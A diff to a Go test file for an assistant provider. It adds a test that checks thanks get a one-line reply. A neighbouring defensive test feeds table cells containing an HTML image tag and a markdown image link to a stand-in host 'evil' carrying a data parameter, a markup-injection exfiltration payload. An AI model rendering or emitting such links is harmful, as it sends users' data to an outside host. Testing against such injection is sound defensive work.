@@ -252,6 +252,12 @@ func TestProvider_Turn(t *testing.T) {
 		require.Contains(t, sink.Role(domain.RoleAssistant)[0].Text, "You could ask")
 	})
 
+	t.Run("ThanksAreAnsweredInOneLine", func(t *testing.T) {
+		t.Parallel()
+		sink, _ := turn(t, schema(t, "people"), nil, "thank you very much")
+		require.Equal(t, "You are welcome.", sink.Role(domain.RoleAssistant)[0].Text)
+	})
+
 	t.Run("MarkupInCellsIsText", func(t *testing.T) {
 		t.Parallel()
 		sink, files := turn(t, schema(t, "sales"), byRegion([]any{"<img src=x>![x](https://evil/?d=1)", 2.0}, []any{"B", 1.0}), "revenue by region")
